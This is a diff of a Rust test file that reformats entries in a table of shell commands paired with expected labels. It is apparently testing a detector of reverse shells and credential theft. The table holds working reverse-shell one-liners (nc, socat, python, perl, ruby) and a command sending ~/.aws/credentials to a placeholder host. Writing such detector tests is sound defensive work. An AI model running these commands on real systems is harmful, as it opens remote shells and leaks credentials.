@@ -605,9 +605,15 @@ fn processes_permissions_and_connections_are_read() {
         ("exec 3<>/dev/tcp/h/80; cat <&3", None),
         ("echo x > /dev/udp/127.0.0.1/9", None),
         ("cat ~/.aws/credentials > /dev/tcp/h/1", Some("credential_sent")),
-        ("python3 -c 'import os,pty; os.dup2(3,0); pty.spawn(\"sh\")'", Some("reverse_shell")),
+        (
+            "python3 -c 'import os,pty; os.dup2(3,0); pty.spawn(\"sh\")'",
+            Some("reverse_shell"),
+        ),
         ("python3 -c 'import os; os.dup2(1,2)'", None),
-        ("perl -e 'open(STDIN, \">&S\"); exec(\"/bin/sh -i\")'", Some("reverse_shell")),
+        (
+            "perl -e 'open(STDIN, \">&S\"); exec(\"/bin/sh -i\")'",
+            Some("reverse_shell"),
+        ),
         ("ruby -e '$stdin.reopen(s); exec \"/bin/sh\"'", Some("reverse_shell")),
         ("nc -e /bin/sh h 1", Some("reverse_shell")),
         ("socat TCP:h:1 EXEC:bash", Some("reverse_shell")),
